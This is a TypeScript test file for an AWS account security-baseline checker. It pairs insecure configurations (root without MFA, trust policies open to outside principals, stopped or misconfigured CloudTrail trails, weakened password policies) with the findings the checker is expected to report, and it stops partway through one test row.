import { type BaselineConfig, defineBaseline } from '../../lib/config/config';
import { CONTROLS } from '../../lib/catalog/controls';
import type { Finding } from '../../lib/posture/finding';
import type {
  AdoptedBucket,
  DeployedFunction,
  DeployedResource,
  Properties,
  RegionalSettings,
  ResourcePolicy,
  Selectors,
  Snapshot,
  TopicState,
  TopicSubscription,
} from '../../lib/posture/snapshot';
import { verify } from '../../lib/posture/verify';
import { ALICE, WITH_MFA } from '../../scripts/docs/access-rows/request';
import { SMALLEST_ORGANIZATION } from '../organization/smallest-organization';
import { SMALLEST } from '../smallest';
import { decide } from '../access/simulator';
import { standardPolicies, strictPolicies } from '../access/templates';
import type { StackKind } from '../../lib/stacks/stack-kinds';
import {
  BUCKET,
  CONFIG,
  deployedStack,
  encoded,
  REGION,
  SECRET,
  TOPIC,
  valueOf,
  WELL,
  LOG_GROUP,
} from './snapshot';
import { eachOf } from '../each-of';

const findings = (change: Partial<Snapshot>, config: BaselineConfig = CONFIG): readonly Finding[] =>
  verify({ ...WELL, ...change }, config).findings;

/** What does not pass, as "check status: detail". */
const troubles = (change: Partial<Snapshot>, config?: BaselineConfig): string[] =>
  findings(change, config)
    .filter(({ status }) => status !== 'pass')
    .map(({ check, status, detail }) => `${check} ${status}: ${detail}`);

const NOW = WELL.at;
const ago = (days: number): Date => new Date(NOW.valueOf() - days * 86_400_000);
const suite = valueOf(WELL.suite);
const people = valueOf(WELL.people);
const [trail] = valueOf(WELL.trails);
const [administrators] = people.groups;
const [alarm, ...otherAlarms] = valueOf(WELL.alarms);
const [filter, ...otherFilters] = valueOf(WELL.metricFilters);
const [subscription] = valueOf(WELL.topic)?.subscriptions ?? [];
const policy = valueOf(WELL.passwordPolicy);
const ROOT = 'arn:aws:iam::123456789012:root';
const DENIED = { unknown: 'some:Action is not allowed', permission: 'some:Action' };
const OUTSIDE = ['support-role fail: A principal outside the account can assume the support role.'];

const withTrail = (change: object): Partial<Snapshot> => ({
  trails: { value: [{ trail: { ...trail?.trail, ...change }, status: trail?.status ?? { unknown: '' } }] },
});
const withStatus = (change: object): Partial<Snapshot> => ({
  trails: {
    value: [
      { trail: trail?.trail ?? {}, status: { value: { ...(trail && valueOf(trail.status)), ...change } } },
    ],
  },
});
const withStack = (change: object, kind: StackKind = 'Alarms'): Partial<Snapshot> => ({
  suite: {
    value: suite.map((one) => (one.kind === kind ? { ...one, stack: { ...one.stack, ...change } } : one)),
  },
});
/** A basic event selector of a new trail. */
const ALL_EVENTS = { IncludeManagementEvents: true, ReadWriteType: 'All' as const };
/** With one resource more in a stack. */
const withResource = (
  kind: StackKind,
  LogicalResourceId: string,
  PhysicalResourceId: string,
  template: object = {},
  more: object = {},
): Partial<Snapshot> => ({
  suite: {
    value: suite.map((one) =>
      one.kind === kind
        ? {
            ...one,
            resources: [
              ...one.resources.filter((other) => other.LogicalResourceId !== LogicalResourceId),
              {
                LogicalResourceId,
                PhysicalResourceId,
                ResourceType: 'AWS::Any::Type',
                ResourceStatus: 'CREATE_COMPLETE' as const,
                LastUpdatedTimestamp: NOW,
                ...more,
              },
            ],
            template: {
              Resources: { ...(one.template as { Resources: object }).Resources, ...template },
            },
          }
        : one,
    ),
  },
});
const withUser = (change: object): Partial<Snapshot> => ({
  people: { value: { ...people, users: [...people.users, { UserName: 'mallory', ...change }] } },
  sshKeys: { ...WELL.sshKeys, mallory: { value: [] } },
});
const guard = administrators?.GroupPolicyList?.[1];

const withGroup = (change: object): Partial<Snapshot> => ({
  people: { value: { ...people, groups: [{ ...administrators, ...change }] } },
});
const withAlarm = (change: object): Partial<Snapshot> => ({
  alarms: { value: [{ ...alarm, ...change }, ...otherAlarms] },
});
const withHeartbeat = (change: object): Partial<Snapshot> => ({
  alarms: {
    value: valueOf(WELL.alarms).map((one) =>
      one.MetricName === 'IncomingLogEvents' ? { ...one, ...change } : one,
    ),
  },
});
const withSubscription = (change: object): Partial<Snapshot> => ({
  topic: { value: { arn: TOPIC, subscriptions: [{ ...subscription, ...change }] } },
});
const withRegional = (change: Partial<RegionalSettings>): Partial<Snapshot> => ({
  regional: {
    ...WELL.regional,
    'us-east-1': { ...(WELL.regional['us-east-1'] as RegionalSettings), ...change },
  },
});
const supportRole = valueOf(WELL.supportRole);
const withSupportRole = (change: object): Partial<Snapshot> => ({
  supportRole: supportRole && { value: { ...supportRole, ...change } },
});
/** With several statements. */
const withTrusts = (...changes: readonly object[]): Partial<Snapshot> =>
  withSupportRole({
    trustPolicy: encodeURIComponent(
      JSON.stringify({
        Version: '2012-10-17',
        Statement: changes.map((change) => ({
          Effect: 'Allow',
          Action: 'sts:AssumeRole',
          Principal: { AWS: ROOT },
          Condition: { Bool: { 'aws:MultiFactorAuthPresent': 'true' } },
          ...change,
        })),
      }),
    ),
  });
const withTrust = (change: object): Partial<Snapshot> => withTrusts(change);
const metric = (metricName: string) => ({ metricName, metricNamespace: 'Baseline', metricValue: '1' });
const [toExplainer] = valueOf(WELL.alarmTopic)?.subscriptions ?? [];
const withCredentials = (change: object): Partial<Snapshot> => ({
  credentials: {
    value: [
      ...valueOf(WELL.credentials),
      { user: 'mallory', hasPassword: false, hasMfa: false, accessKeys: [], certificates: [], ...change },
    ],
  },
});

test('an account in which all is well passes every check', () => {
  expect(troubles({})).toEqual([]);
  expect(new Set(findings({}).map(({ check }) => check)).size).toBeGreaterThan(30);
});

const keyThat = (change: object): Snapshot['key'] => {
  const key = valueOf(WELL.key);
  return key ? { value: { ...key, ...change } } : WELL.key;
};
const ALIAS = 'alias/account-baseline';

const MUTE_RULE = 'arn:aws:cloudwatch:eu-central-1:123456789012:alarm-mute-rule:it’s; quiet';
const [FUNCTION] = valueOf(WELL.functions) as [DeployedFunction];

const [TOPIC_POLICY] = valueOf(WELL.resourcePolicies) as [ResourcePolicy];

/** The topic's policy with other statements. */
function withTopicPolicy(change: (statements: object[]) => object[]): Partial<Snapshot> {
  const { Statement } = valueOf(TOPIC_POLICY.actual) as { Statement: object[] };
  const actual = { value: JSON.parse(JSON.stringify({ Statement: change(Statement) })) as unknown };
  return { resourcePolicies: { value: [{ ...TOPIC_POLICY, actual }] } };
}

const STATEMENT = {
  Effect: 'Allow',
  Principal: { Service: 'sns.amazonaws.com' },
  Action: 'lambda:InvokeFunction',
  Resource: `arn:aws:lambda:eu-central-1:123456789012:function:${FUNCTION.template.name}`,
  Condition: { ArnLike: { 'AWS:SourceArn': TOPIC } },
};

/** As Lambda has it. CloudFormation chose the ID. */
const PERMISSION = { Sid: 'AccountBaseline-Alarms-NotificationsExplainerAlarms-1A2B3C', ...STATEMENT };

/** With the policy of a function. */
function withFunctionPolicy(Statement: readonly object[]): Partial<Snapshot> {
  const policy: ResourcePolicy = {
    kind: 'Alarms',
    type: 'AWS::Lambda::Function',
    resource: FUNCTION.template.name,
    wanted: {
      Statement: [
        {
          ...STATEMENT,
          Resource: { 'Fn::GetAtt': ['explainer', 'Arn'] },
          Condition: { ArnLike: { 'AWS:SourceArn': { Ref: 'notification-topic' } } },
        },
      ],
    },
    actual: { value: { Statement } },
  };
  return { resourcePolicies: { value: [TOPIC_POLICY, policy] } };
}

/** The well function with something else that runs. */
function withRunning(change: object): Partial<Snapshot> {
  const running = valueOf(FUNCTION.state);
  return { functions: { value: [{ ...FUNCTION, state: { value: { ...running, ...change } as never } }] } };
}

const resources = valueOf(WELL.resources);
const NOTICE_RULE = resources.find(({ type }) => type === 'AWS::Notifications::EventRule')?.resource ?? '';

/** With the resources of a type changed, unknown, or gone. */
function withActual(type: string, change?: object): Partial<Snapshot> {
  const value = resources.map((one): DeployedResource => {
    if (one.type !== type) return one;
    if (change && 'unknown' in change) return { ...one, actual: DENIED };
    return { ...one, actual: { value: change && given({ ...valueOf(one.actual), ...change }) } };
  });
  return { resources: { value } };
}

/** The same, where the template has a parameter for a property. */
function withParameter(type: string, property: string, change: object): Partial<Snapshot> {
  const value = valueOf(withActual(type, change).resources ?? WELL.resources).map((one) =>
    one.type === type ? { ...one, wanted: { ...one.wanted, [property]: { Ref: 'Parameter' } } } : one,
  );
  return { resources: { value } };
}

const given = (properties: object) =>
  Object.fromEntries(Object.entries(properties).filter(([, value]) => value !== undefined));

const withBucket = (change?: object) => withActual('AWS::S3::Bucket', change);

/** A topic with one more subscription. */
function withStranger(state: TopicState | undefined, change: Partial<TopicSubscription>): TopicState {
  if (!state) throw new Error('there is no topic');
  const stranger = {
    SubscriptionArn: `${state.arn}:9`,
    Protocol: 'email',
    Endpoint: 'mallory',
    endsBySignedCallsOnly: { value: true },
    ...change,
  };
  return { ...state, subscriptions: [...state.subscriptions, stranger] };
}

/** Everything that can be wrong with an account, and what is found. */
const ROWS: readonly [string, Partial<Snapshot>, string[]][] = [
  [
    'a subscription whose attributes were not read',
    withSubscription({ filters: undefined, endsBySignedCallsOnly: undefined }),
    [
      'listening unknown: The attributes of a subscription were not read.',
      'unsubscribe unknown: The attributes of a subscription were not read.',
    ],
  ],
  [
    'root without MFA',
    { summary: { value: { AccountMFAEnabled: 0, AccountAccessKeysPresent: 0 } } },
    ['root-mfa fail: Root has no MFA device: the password alone gives full access.'],
  ],
  [
    'root with access keys',
    { summary: { value: { AccountMFAEnabled: 1, AccountAccessKeysPresent: 1 } } },
    ['root-access-keys fail: Root has access keys: anyone who has one has full access, without MFA.'],
  ],
  [
    'a summary that says nothing of root',
    { summary: { value: {} } },
    [
      'root-mfa fail: Root has no MFA device: the password alone gives full access.',
      'root-access-keys fail: Root has access keys: anyone who has one has full access, without MFA.',
    ],
  ],
  [
    'root used three days ago',
    {
      credentials: {
        value: [
          {
            user: '<root_account>',
            hasPassword: true,
            hasMfa: true,
            accessKeys: [],
            certificates: [],
            passwordLastUsed: ago(3),
          },
        ],
      },
    },
    ['root-unused manual: Root signed in on 2026-11-21.'],
  ],
  [
    'root’s keys in the credential report, which are told by the summary',
    {
      credentials: {
        value: [
          { user: '<root_account>', hasPassword: true, hasMfa: false, accessKeys: [{}], certificates: [] },
        ],
      },
    },
    [],
  ],
  [
    'root used a month ago',
    {
      credentials: {
        value: [
          {
            user: 'alice',
            hasPassword: true,
            hasMfa: true,
            accessKeys: [],
            certificates: [],
            passwordLastUsed: ago(1),
          },
          {
            user: '<root_account>',
            hasPassword: true,
            hasMfa: true,
            accessKeys: [],
            certificates: [],
            passwordLastUsed: ago(30),
          },
        ],
      },
    },
    [],
  ],
  [
    'a credential report without root',
    { credentials: { value: [] } },
    ['root-unused unknown: The IAM credential report has no entry for root.'],
  ],
  ...[
    { Effect: 'Allow' },
    { Resource: 'arn:aws:s3:::*' },
    { Condition: { BoolIfExists: { 'aws:MultiFactorAuthPresent': 'true' } } },
    {
      Condition: { BoolIfExists: { 'aws:MultiFactorAuthPresent': 'false', 'aws:SecureTransport': 'false' } },
    },
    { Condition: { Bool: { 'aws:MultiFactorAuthPresent': 'false' } } },
    { NotAction: undefined, Action: 's3:*' },
  ].map((part): [string, Partial<Snapshot>, string[]] => [
    `a group whose policy has ${JSON.stringify(part)}`,
    withGroup({
      GroupPolicyList: [
        {
          PolicyName: 'AdminAccessPolicy',
          PolicyDocument: encoded({
            Effect: 'Deny',
            NotAction: ['iam:GetUser'],
            Resource: '*',
            Condition: { BoolIfExists: { 'aws:MultiFactorAuthPresent': 'false' } },
            ...part,
          }),
        },
        guard,
      ],
    }),
    [
      'administrators-group fail: The group Administrators does not deny access without MFA.',
      'group-policies fail: AdminAccessPolicy of Administrators was deleted or changed.',
    ],
  ]),
  [
    'a group whose guard allows what it denied',
    withGroup({
      GroupPolicyList: [
        administrators?.GroupPolicyList?.[0],
        {
          PolicyName: 'AdminAccessGuard',
          PolicyDocument: encoded({ Effect: 'Allow', Action: ['iam:RemoveUserFromGroup'], Resource: '*' }),
        },
      ],
    }),
    [
      'administrators-group fail: The group Administrators lacks the guardrail.',
      'group-policies fail: AdminAccessGuard of Administrators was deleted or changed.',
    ],
  ],
  [
    'a group of which IAM says nothing',
    withGroup({ AttachedManagedPolicies: undefined, GroupPolicyList: undefined }),
    [
      'administrators-group fail: The group Administrators lacks AdministratorAccess, and does not deny access without MFA, and lacks the guardrail.',
      'group-policies fail: AdminAccessPolicy of Administrators was deleted or changed; AdminAccessGuard of Administrators was deleted or changed.',
    ],
  ],
  [
    'an administrator in place of another',
    {
      people: {
        value: {
          ...people,
          users: [
            ...people.users.map((user) => ({
              ...user,
              GroupList: user.UserName === 'bob' ? [] : user.GroupList,
            })),
            { UserName: 'mallory', GroupList: ['Administrators'] },
          ],
        },
      },
      sshKeys: { ...WELL.sshKeys, mallory: { value: [] } },
    },
    [
      'administrators fail: bob is not in the group Administrators.',
      'administrators fail: mallory is in the group Administrators but not in the configuration.',
    ],
  ],
  [
    'an administrator who is gone, with the devices',
    {
      people: { value: { ...people, users: people.users.slice(0, 1) } },
      mfaDevices: { alice: { value: 1 } },
    },
    ['administrators fail: There is no user bob.'],
  ],
  [
    'a user with a policy of their own and an attached one',
    withUser({ UserPolicyList: [{ PolicyName: 'all' }], AttachedManagedPolicies: [{ PolicyName: 'more' }] }),
    ['own-permissions fail: mallory has policies of their own: all, more.'],
  ],
  [
    'a user with one access key',
    withCredentials({
      accessKeys: [{ created: new Date('2026-01-02'), lastUsed: new Date('2026-11-03') }],
    }),
    ['access-keys fail: mallory has 1 active access key: created on 2026-01-02, last used on 2026-11-03.'],
  ],
  [
    'a support role whose second statement lets others in',
    withTrusts({}, { Principal: { AWS: '210987654321' } }),
    OUTSIDE,
  ],
  ['a support role that others are denied', withTrusts({}, { Effect: 'Deny', Principal: '*' }), []],
  [
    'a support role that its account may tag only',
    withTrust({ Action: 'sts:TagSession' }),
    ['support-role fail: The support role cannot be assumed by every administrator.'],
  ],
  [
    'a support role that denies its account',
    withTrust({ Effect: 'Deny' }),
    ['support-role fail: The support role cannot be assumed by every administrator.'],
  ],
  [
    'a support role with one more condition beside that of MFA',
    withTrust({
      Condition: { Bool: { 'aws:MultiFactorAuthPresent': 'true', 'aws:SecureTransport': 'true' } },
    }),
    ['support-role fail: The support role cannot be assumed by every administrator.'],
  ],
  [
    'a support role that one person may assume, and all with MFA',
    withTrusts({}, { Principal: { AWS: 'arn:aws:iam::123456789012:user/alice' } }),
    [],
  ],
  [
    'a support role that one person may assume without MFA',
    withTrusts({}, { Principal: { AWS: 'arn:aws:iam::123456789012:user/alice' }, Condition: {} }),
    ['support-role fail: The support role can be assumed without MFA.'],
  ],
  [
    'a support role for the account and one person at once',
    withTrust({ Principal: { AWS: ['arn:aws:iam::123456789012:user/alice', ROOT] } }),
    [],
  ],
  [
    'a support role with one more policy',
    withSupportRole({
      policyArns: ['arn:aws:iam::aws:policy/AWSSupportAccess', 'arn:aws:iam::aws:policy/ReadOnlyAccess'],
    }),
    [],
  ],
  [
    'a trail that writes into another bucket',
    withTrail({ S3BucketName: 'other' }),
    ['trail-bucket fail: The trail writes to other instead of the log bucket.'],
  ],
  ...[undefined, 'arn:other'].map((KmsKeyId): [string, Partial<Snapshot>, string[]] => [
    `a trail that encrypts with ${KmsKeyId}`,
    withTrail({ KmsKeyId }),
    ['key-rotation fail: The trail does not use the key.'],
  ]),
  [
    'a trail that delivers to another log group',
    withTrail({ CloudWatchLogsLogGroupArn: 'arn:aws:logs:eu-central-1:123456789012:log-group:other:*' }),
    ['trail-log-group-delivery fail: The trail delivers to other, which no alarm reads.'],
  ],
  [
    'a subscription that lets nothing through',
    withSubscription({ filters: { value: true } }),
    [
      'listening fail: The subscription of security@example.com has a filter policy, so it can miss notifications.',
    ],
  ],
  [
    'a subscription that delivers in another way',
    withSubscription({ changes: { value: ['DeliveryPolicy', 'RawMessageDelivery'] } }),
    [
      'listening fail: The subscription of security@example.com delivers in another way: somebody set DeliveryPolicy and RawMessageDelivery.',
    ],
  ],
  [
    'a subscription of which nobody may know whether it filters',
    withSubscription({ filters: DENIED }),
    ['listening unknown: some:Action is not allowed.'],
  ],
  [
    'a subscription of the function that lets nothing through',
    { alarmTopic: { value: { arn: TOPIC, subscriptions: [{ ...toExplainer, filters: { value: true } }] } } },
    ['explainer fail: The subscription of the function has a filter policy, so it can miss alarms.'],
  ],
  [
    'a subscription of the function of which nobody may know whether it filters',
    { alarmTopic: { value: { arn: TOPIC, subscriptions: [{ ...toExplainer, filters: DENIED }] } } },
    ['explainer unknown: some:Action is not allowed.'],
  ],
  [
    'a public log bucket and a key that goes, though the trails can’t be read',
    {
      trails: DENIED,
      ...withBucket({ PublicAccessBlockConfiguration: undefined }),
      key: keyThat({ state: 'PendingDeletion', rotates: false }),
    },
    [
      'trail-logging unknown: some:Action is not allowed.',
      'trail-delivery unknown: some:Action is not allowed.',
      'trail-log-group-delivery unknown: some:Action is not allowed.',
      'trail-validation unknown: some:Action is not allowed.',
      'trail-bucket fail: The log bucket can be public.',
      'key-rotation fail: The key is scheduled for deletion: log files and notifications would be lost.',
    ],
  ],
  [
    'a trail that leaves global services out',
    withTrail({ IncludeGlobalServiceEvents: false }),
    ['trail-logging fail: The trail account-baseline does not record every Region and global services.'],
  ],
  ...(
    [
      ['no management events', { basic: [{ ...ALL_EVENTS, IncludeManagementEvents: false }], advanced: [] }],
      [
        'all but those of KMS',
        { basic: [{ ...ALL_EVENTS, ExcludeManagementEventSources: ['kms.amazonaws.com'] }], advanced: [] },
      ],
      [
        'data events only',
        { basic: [], advanced: [{ FieldSelectors: [{ Field: 'eventCategory', Equals: ['Data'] }] }] },
      ],
      ['nothing of a category', { basic: [], advanced: [{ FieldSelectors: [{ Field: 'eventCategory' }] }] }],
      [
        'nothing by another field',
        { basic: [], advanced: [{ FieldSelectors: [{ Field: 'eventSource', Equals: ['Management'] }] }] },
      ],
      ['nothing by no field', { basic: [], advanced: [{ FieldSelectors: [] }] }],
    ] as const
  ).map(([what, selectors]): [string, Partial<Snapshot>, string[]] => [
    `a trail that records ${what}`,
    { selectors: { value: selectors as unknown as Selectors } },
    [
      `trail-events fail: The trail’s event selectors leave out ${what.includes('KMS') ? 'read events of kms.amazonaws.com, write events of kms.amazonaws.com' : 'all management events'}.`,
    ],
  ]),
  [
    'a trail whose last error is over',
    withStatus({ LatestDeliveryError: '', LatestCloudWatchLogsDeliveryError: '' }),
    [],
  ],
  [
    'a trail that delivered last a day ago',
    withStatus({ LatestDeliveryTime: ago(1) }),
    ['trail-delivery fail: Log files were last delivered at 2026-11-23T12:00:00.000Z.'],
  ],
  [
    'a key that is gone',
    { key: { value: undefined } },
    ['key-rotation fail: The key was deleted: data that it encrypted can no longer be read.'],
  ],
  [
    'a log group that is gone',
    { logGroup: { value: undefined } },
    [`log-group fail: The log group ${LOG_GROUP} was deleted: no alarm can trigger.`],
  ],
  [
    'a log group that was deleted with its filters, as two findings with one step',
    { logGroup: { value: undefined }, metricFilters: { value: [] } },
    [
      `log-group fail: The log group ${LOG_GROUP} was deleted: no alarm can trigger.`,
      `filters fail: The log group ${LOG_GROUP} has none of its ${otherFilters.length + 1} metric filters: no alarm can trigger.`,
    ],
  ],
  [
    'a filter that feeds one more metric',
    {
      metricFilters: {
        value: [
          { ...filter, metricTransformations: [metric('Other'), ...(filter?.metricTransformations ?? [])] },
          ...otherFilters,
        ],
      },
    },
    [],
  ],
  [
    'a filter that leaves events out',
    {
      metricFilters: { value: [{ ...filter, fieldSelectionCriteria: '@aws.region = "x"' }, ...otherFilters] },
    },
    ['filters fail: The metric filter for “Root used” is missing or was changed.'],
  ],
  ...[
    { metricNamespace: 'Other' },
    { metricValue: '0' },
    { metricName: 'Other' },
    { dimensions: { a: '$.b' } },
  ].map((change): [string, Partial<Snapshot>, string[]] => [
    `a filter with ${JSON.stringify(change)}`,
    {
      metricFilters: {
        value: [
          { ...filter, metricTransformations: [{ ...metric('RootUser'), ...change }] },
          ...otherFilters,
        ],
      },
    },
    ['filters fail: The metric filter for “Root used” is missing or was changed.'],
  ]),
  ...[
    { Namespace: 'Other' },
    { Statistic: 'Minimum' },
    { ComparisonOperator: 'LessThanThreshold' },
    { EvaluationPeriods: 10 },
    { Dimensions: [{ Name: 'a', Value: 'b' }] },
    { Unit: 'Bytes' as const },
  ].map((change): [string, Partial<Snapshot>, string[]] => [
    `an alarm with ${JSON.stringify(change)}`,
    withAlarm(change),
    ['alarms fail: The alarm “Root user used” has a changed comparison.'],
  ]),
  [
    'an alarm that looks at five minutes',
    withAlarm({ Period: 300 }),
    ['alarms fail: The alarm “Root user used” evaluates 300 seconds instead of 60.'],
  ],
  [
    'an alarm without a period',
    withAlarm({ Period: undefined }),
    ['alarms fail: The alarm “Root user used” evaluates 0 seconds instead of 60.'],
  ],
  ...[
    { Statistic: 'SampleCount' },
    { ComparisonOperator: 'LessThanOrEqualToThreshold' },
    { Threshold: -1 },
    { Period: 86_400 },
    { EvaluationPeriods: 168 },
    { DatapointsToAlarm: 1 },
    { TreatMissingData: 'missing' },
    { Unit: 'Bytes' as const },
  ].map((change): [string, Partial<Snapshot>, string[]] => [
    `a heartbeat alarm with ${JSON.stringify(change)}`,
    withHeartbeat(change),
    ['heartbeat fail: The alarm for a day without events has a changed comparison.'],
  ]),
  ...[
    { Namespace: 'Other' },
    { MetricName: 'IncomingBytes' },
    { Dimensions: undefined },
    { Dimensions: [{ Name: 'LogGroupName', Value: 'other' }] },
    {
      Dimensions: [
        { Name: 'LogGroupName', Value: LOG_GROUP },
        { Name: 'a', Value: 'b' },
      ],
    },
  ].map((change): [string, Partial<Snapshot>, string[]] => [
    `a heartbeat alarm with ${JSON.stringify(change)}`,
    withHeartbeat(change),
    ['heartbeat fail: The alarm for a day without events counts something else.'],
  ]),
  [
    'a heartbeat alarm that is gone',
    withHeartbeat({ AlarmName: 'other' }),
    ['heartbeat fail: The alarm for a day without events was deleted.'],
  ],
  [
    'a heartbeat alarm with its actions switched off that publishes to another topic',
    withHeartbeat({ ActionsEnabled: false, AlarmActions: ['arn:other'] }),
    [
      'heartbeat fail: The alarm for a day without events has its actions disabled and does not publish to the notification topic.',
    ],
  ],
  [
    'a subscription of the address by another protocol',
    withSubscription({ Protocol: 'email-json' }),
    [
      'listening fail: security@example.com is not subscribed: it was unsubscribed, or the subscription was never confirmed.',
    ],
  ],
  [
    'a topic of alarms that is gone',
    { alarmTopic: { value: undefined } },
    ['explainer fail: The alarm topic was deleted: nobody receives notifications.'],
  ],
  ...[{ Endpoint: 'arn:other' }, { SubscriptionArn: 'PendingConfirmation' }].map(
    (change): [string, Partial<Snapshot>, string[]] => [
      `a function whose subscription has ${JSON.stringify(change)}`,
      { alarmTopic: { value: { arn: TOPIC, subscriptions: [{ ...toExplainer, ...change }] } } },
      [
        ...('Endpoint' in change
          ? [
              'subscribers fail: arn:other (lambda) receives messages, and the configuration does not name it.',
            ]
          : []),
        'explainer fail: The function is not subscribed to the alarm topic.',
      ],
    ],
  ),
  [
    'no administrators’ group',
    { people: { value: { ...people, groups: [] } } },
    ['administrators-group fail: There is no group Administrators.'],
  ],
  [
    'a group without AdministratorAccess',
    withGroup({ AttachedManagedPolicies: [] }),
    ['administrators-group fail: The group Administrators lacks AdministratorAccess.'],
  ],
  [
    'a group whose policy exempts more than the enrolment',
    withGroup({
      GroupPolicyList: [
        {
          PolicyName: 'AdminAccessPolicy',
          PolicyDocument: encoded({
            Effect: 'Deny',
            NotAction: ['iam:GetUser', 's3:*'],
            Resource: '*',
            Condition: { BoolIfExists: { 'aws:MultiFactorAuthPresent': 'false' } },
          }),
        },
        guard,
      ],
    }),
    [
      'administrators-group fail: The group Administrators does not deny access without MFA.',
      'group-policies fail: AdminAccessPolicy of Administrators was deleted or changed.',
    ],
  ],
  [
    'a group whose policy has a further condition, so that it never applies',
    withGroup({
      GroupPolicyList: [
        {
          PolicyName: 'AdminAccessPolicy',
          PolicyDocument: encoded({
            Effect: 'Deny',
            NotAction: ['iam:GetUser'],
            Resource: '*',
            Condition: {
              BoolIfExists: { 'aws:MultiFactorAuthPresent': 'false' },
              StringEquals: { 'aws:username': 'nobody' },
            },
          }),
        },
        guard,
      ],
    }),
    [
      'administrators-group fail: The group Administrators does not deny access without MFA.',
      'group-policies fail: AdminAccessPolicy of Administrators was deleted or changed.',
    ],
  ],
  [
    'a group without its guard',
    withGroup({ GroupPolicyList: administrators?.GroupPolicyList?.slice(0, 1) }),
    [
      'administrators-group fail: The group Administrators lacks the guardrail.',
      'group-policies fail: AdminAccessGuard of Administrators was deleted or changed.',
    ],
  ],
  [
    'a group with a policy that was not deployed',
    withGroup({
      GroupPolicyList: [
        ...(administrators?.GroupPolicyList ?? []),
        { PolicyName: 'Mine', PolicyDocument: encoded({ Effect: 'Allow', Action: '*', Resource: '*' }) },
      ],
    }),
    ['group-policies fail: Mine of Administrators was added.'],
  ],
  [
    'an administrator taken out of the group',
    {
      people: {
        value: {
          ...people,
          users: people.users.map((user) => ({
            ...user,
            GroupList: user.UserName === 'bob' ? ['Others'] : user.GroupList,
          })),
        },
      },
    },
    ['administrators fail: bob is not in the group Administrators.'],
  ],
  [
    'no support role',
    { supportRole: { value: undefined } },
    ['support-role fail: The support role was deleted.'],
  ],
  [
    'a support role without its policy, but one of the same name',
    withSupportRole({ policyArns: ['arn:aws:iam::123456789012:policy/AWSSupportAccess'] }),
    ['support-role fail: The support role lacks AWSSupportAccess.'],
  ],
  ['a support role whose account is named by its id', withTrust({ Principal: { AWS: '123456789012' } }), []],
  [
    'a support role that asks for no MFA',
    withTrust({ Condition: undefined }),
    ['support-role fail: The support role can be assumed without MFA.'],
  ],
  [
    'a support role for one person, without MFA',
    withTrust({ Principal: { AWS: 'arn:aws:iam::123456789012:user/alice' }, Condition: {} }),
    [
      'support-role fail: The support role can be assumed without MFA, and cannot be assumed by every administrator.',
    ],
  ],
  [
    'a support role with a further condition',
    withTrust({
      Condition: {
        Bool: { 'aws:MultiFactorAuthPresent': 'true' },
        IpAddress: { 'aws:SourceIp': '192.0.2.1' },
      },
    }),
    ['support-role fail: The support role cannot be assumed by every administrator.'],
  ],
  ['a support role for another account', withTrust({ Principal: { AWS: [ROOT, '210987654321'] } }), OUTSIDE],
  ['a support role for everybody', withTrust({ Principal: '*' }), OUTSIDE],
  ['a support role for a service', withTrust({ Principal: { Service: 'ec2.amazonaws.com' } }), OUTSIDE],
  [
    'a support role for all but one',
    withTrust({ Principal: undefined, NotPrincipal: { AWS: ROOT } }),
    OUTSIDE,
  ],
  [
    'an administrator who is gone',
    { people: { value: { ...people, users: people.users.slice(0, 1) } } },
    ['administrators fail: There is no user bob.'],
  ],
  [
    'a stranger in the group',
    withUser({ GroupList: ['Administrators'] }),
    ['administrators fail: mallory is in the group Administrators but not in the configuration.'],
  ],
  [
    'a user with policies of their own',
    withUser({ UserPolicyList: [{ PolicyName: 'all' }] }),
    ['own-permissions fail: mallory has policies of their own: all.'],
  ],
  [
    'an administrator without MFA',
    { mfaDevices: { ...WELL.mfaDevices, bob: { value: 0 } } },
    ['user-mfa manual: bob has no MFA device yet. Until then, the group denies everything else.'],
  ],
  [
    'another user with a password and no MFA',
    withCredentials({ hasPassword: true }),
    ['user-mfa fail: mallory has a password and no MFA device.'],
  ],
  [
    'a user with access keys',
    withCredentials({ accessKeys: [{ created: new Date('2026-01-02') }, {}] }),
    [
      'access-keys fail: mallory has 2 active access keys: created on 2026-01-02, never used; of unknown age, never used.',
    ],
  ],
  [
    'no password policy',
    { passwordPolicy: { value: undefined } },
    ['password-policy fail: The account has no password policy. The AWS default requires 8 characters.'],
  ],
  [
    'a weakened password policy',
    {
      passwordPolicy: {
        value: {
          ...policy,
          MinimumPasswordLength: 8,
          RequireSymbols: false,
          PasswordReusePrevention: undefined,
        },
      },
    },
    [
      'password-policy fail: The password policy is weaker than the configuration: 8 characters instead of 15, no symbol, 0 remembered instead of 24.',
    ],
  ],
  [
    'a stricter password policy',
    { passwordPolicy: { value: { ...policy, MinimumPasswordLength: 30, MaxPasswordAge: 90 } } },
    [],
  ],
  [
    'a stopped trail',
    withStatus({ IsLogging: false }),
    [
      'trail-logging fail: The trail account-baseline is stopped: it records nothing, and no alarm can trigger.',
    ],
  ],
  [
    'a trail of one Region',
    withTrail({ IsMultiRegionTrail: false }),
    ['trail-logging fail: The trail account-baseline does not record every Region and global services.'],
  ],
  [
    'a trail that is gone',
    { trails: { value: [] } },
    [
      'trail-logging fail: The trail was deleted.',
      'trail-delivery unknown: There is no trail.',
      'trail-log-group-delivery unknown: There is no trail.',
      'trail-validation unknown: There is no trail.',
    ],
  ],
  [
    'a trail that can’t deliver',
    withStatus({ LatestDeliveryError: 'AccessDenied' }),
    ['trail-delivery fail: Log files could not be delivered: AccessDenied.'],
  ],
  [
    'a trail that delivered last two days ago',
    withStatus({ LatestDeliveryTime: ago(2), LatestCloudWatchLogsDeliveryTime: ago(2) }),
    [
      'trail-delivery fail: Log files were last delivered at 2026-11-22T12:00:00.000Z.',
      'trail-log-group-delivery fail: Events were last delivered at 2026-11-22T12:00:00.000Z.',
    ],
  ],
  [
    'a new trail',
    withStatus({ LatestDeliveryTime: undefined }),
    ['trail-delivery unknown: Log files have not been delivered yet. A new trail takes up to 15 minutes.'],
  ],
  [
    'a trail that was taken off its log group',
    withTrail({ CloudWatchLogsLogGroupArn: undefined }),
    ['trail-log-group-delivery fail: The trail delivers to no log group: no alarm can trigger.'],
  ],
  [
    'a trail without digests',
    withTrail({ LogFileValidationEnabled: false }),
    ['trail-validation fail: CloudTrail writes no digest files.'],
  ],
  [
    'a trail that records writes only',
    { selectors: { value: { basic: [{ ...ALL_EVENTS, ReadWriteType: 'WriteOnly' }], advanced: [] } } },
    ['trail-events fail: The trail’s event selectors leave out read events.'],
  ],
  ...['breaching', 'ignore', 'missing', undefined].map(
    (TreatMissingData): [string, Partial<Snapshot>, string[]] => [
      `an alarm that treats missing data as ${TreatMissingData ?? 'nothing'}`,
